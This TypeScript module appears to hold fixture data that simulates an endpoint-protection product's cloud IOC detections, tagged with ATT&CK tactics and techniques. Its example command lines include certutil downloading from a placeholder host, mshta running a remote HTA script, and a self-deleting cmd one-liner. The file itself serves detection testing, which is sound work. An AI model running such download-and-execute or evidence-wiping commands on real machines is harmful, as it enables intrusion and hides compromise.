import type { JsonObject } from '../json.ts';
import type { Severity } from './event-record.ts';
import { cleanFiles, identityOf, type KnownFile, parentOf, pathOf } from './files.ts';
import { type TacticShape, tacticsOf, techniquesOf } from './tactics.ts';

/** A behaviour that the vendor's cloud recognised. The file itself is usually known and clean. */
export interface CloudIoc {
  name: string;
  description: string;
  severity: Severity;
  tactics: readonly string[];
  techniques: readonly string[];
  file: KnownFile;
  parent: KnownFile;
  commandLine: string;
}

export const cloudIocs: readonly CloudIoc[] = [
  {
    name: 'W32.SchtasksCreate.ioc',
    description: 'A scheduled task was created from the command line. Administrators do so; so does malware.',
    severity: 'Low',
    tactics: ['TA0003'],
    techniques: ['T1053.005'],
    file: cleanFiles.schtasks,
    parent: cleanFiles.cmd,
    commandLine: 'schtasks.exe /create /tn "EDI nightly" /tr D:\\edi\\pull.cmd /sc daily /st 02:10',
  },
  {
    name: 'W32.CertutilDownload.ioc',
    description: 'certutil.exe fetched a file from a server. It is a known way to bring tools past a proxy.',
    severity: 'Medium',
    tactics: ['TA0011', 'TA0005'],
    techniques: ['T1105'],
    file: cleanFiles.certutil,
    parent: cleanFiles.cmd,
    commandLine: 'certutil.exe -urlcache -split -f http://mirror.example/root.crt root.crt',
  },
  {
    name: 'W32.RundllSuspicious.ioc',
    description: 'rundll32.exe loaded a library from a folder that users may write to.',
    severity: 'Medium',
    tactics: ['TA0005'],
    techniques: ['T1218.011'],
    file: cleanFiles.rundll32,
    parent: cleanFiles.explorer,
    commandLine: 'rundll32.exe C:\\ProgramData\\printer\\setup.dll,Install',
  },
  {
    name: 'W32.FileDeletedAfterRun.ioc',
    description: 'A program deleted its own file after it ran.',
    severity: 'Low',
    tactics: ['TA0005'],
    techniques: ['T1070.004'],
    file: cleanFiles.cmd,
    parent: cleanFiles.explorer,
    commandLine: 'cmd.exe /c ping 127.0.0.1 -n 3 > nul & del "%TEMP%\\setup_7z.exe"',
  },
];

export const graveCloudIoc: CloudIoc = {
  name: 'W32.MshtaScript.ioc',
  description: 'mshta.exe ran a script from a remote address.',
  severity: 'High',
  tactics: ['TA0005', 'TA0002'],
  techniques: ['T1218.005'],
  file: cleanFiles.mshta,
  parent: cleanFiles.outlook,
  commandLine: 'mshta.exe http://tracking.example/parcel.hta',
};

export function cloudIocDetails(ioc: CloudIoc, account: string, key: number, shape: TacticShape): JsonObject {
  return {
    cloud_ioc: { description: ioc.description, short_description: ioc.name },
    file: {
      disposition: 'Clean',
      file_name: ioc.file.name,
      file_path: pathOf(ioc.file, account, key),
      identity: { sha256: identityOf(ioc.file).sha256 },
      parent: parentOf(ioc.parent, key),
    },
    command_line: { arguments: ioc.commandLine },
    tactics: tacticsOf(ioc.tactics, shape),
    techniques: techniquesOf(ioc.techniques, shape),
  };
}
